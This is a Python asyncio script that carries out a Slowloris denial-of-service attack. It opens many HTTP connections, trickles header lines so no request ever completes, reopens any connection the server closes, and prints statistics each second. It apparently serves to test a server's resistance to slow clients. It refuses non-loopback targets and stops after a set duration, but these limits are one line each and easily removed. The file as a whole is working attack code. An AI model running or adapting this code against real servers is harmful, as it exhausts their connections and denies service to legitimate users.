#!/usr/bin/env python3
"""Slowloris attacker: keeps N connections open, each sending a request head a few bytes at a
time so it never completes. Connections the server closes are reopened, so the pressure holds.
Runs for a fixed duration and stops by itself; loopback targets only.

Prints one status line per second: open connections, opened so far, closed by the server.
"""
import argparse
import asyncio
import ipaddress
import sys
import time


async def slow_client(args, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(
                args.host, args.port, local_addr=(args.source, 0) if args.source else None)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: bulkhead\r\n")
            await writer.drain()
            n = 0
            while not stop.is_set():
                try:
                    await asyncio.wait_for(stop.wait(), timeout=args.interval)
                except asyncio.TimeoutError:
                    pass
                if stop.is_set():
                    break
                if reader.at_eof():
                    break
                writer.write(b"X-Slow-%d: y\r\n" % n)
                n += 1
                await writer.drain()
                # The server answering (408/400) or closing shows up as readable data/EOF.
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=0.01)
                    if not data:
                        break
                    stats["answered"] += 1
                    break
                except asyncio.TimeoutError:
                    pass
        except (ConnectionError, OSError):
            pass
        finally:
            stats["open"] -= 1
            if not stop.is_set():
                stats["closed_by_server"] += 1
            writer.close()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2", help="local address to connect from")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=5.0, help="seconds between header lines")
    parser.add_argument("--duration", type=float, default=40.0)
    parser.add_argument("--ramp", type=float, default=2.0, help="seconds to open all connections")
    args = parser.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        sys.exit("slowloris: loopback targets only")

    stats = {"open": 0, "opened": 0, "closed_by_server": 0, "answered": 0, "refused": 0}
    stop = asyncio.Event()
    tasks = []
    start = time.monotonic()
    for i in range(args.connections):
        tasks.append(asyncio.create_task(slow_client(args, stats, stop)))
        if args.ramp > 0 and i % 50 == 49:
            await asyncio.sleep(args.ramp * 50 / args.connections)
    while time.monotonic() - start < args.duration:
        await asyncio.sleep(1)
        print(f"t={time.monotonic() - start:5.1f}s open={stats['open']} opened={stats['opened']} "
              f"closed_by_server={stats['closed_by_server']} answered={stats['answered']} refused={stats['refused']}",
              flush=True)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main())
